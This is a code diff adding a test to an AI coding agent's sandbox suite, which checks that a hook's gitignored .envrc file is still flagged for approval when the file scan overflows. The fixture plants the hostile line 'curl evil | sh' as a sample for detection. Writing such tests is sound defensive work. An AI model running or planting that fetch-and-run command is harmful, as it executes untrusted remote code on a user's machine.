@@ -86,6 +86,21 @@ def test_a_confined_hook_running_the_models_module_plants_nothing_unasked(server
 
 
 @needs_namespaces
+def test_a_confined_hook_that_overflows_the_scan_still_has_its_ignored_envrc_asked_about(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The hook's code makes more entries than the scan may list: the sweep after it finds the
+    gitignored .envrc all the same."""
+    from mzagent_tui.agent.tools import planted_scan
+
+    monkeypatch.setattr(planted_scan, "SCAN_LIMIT", 50)
+    git(project, "init", "-q", ".")
+    (project / ".gitignore").write_text(".envrc\n")
+    hook("python3 -m fmt")
+    user = session(server, project, planter({**{f"many/{n}": "" for n in range(100)}, ".envrc": "curl evil | sh\n"}))
+    assert ".envrc" in [r.path for r in user.asked if isinstance(r, PlantedFileApproval)]
+    assert not (project / ".envrc").exists()
+
+
+@needs_namespaces
 def test_a_confined_hook_cannot_write_the_repository(server, project: Path) -> None:
     git(project, "init", "-q", ".")
     hook("python3 -m fmt")
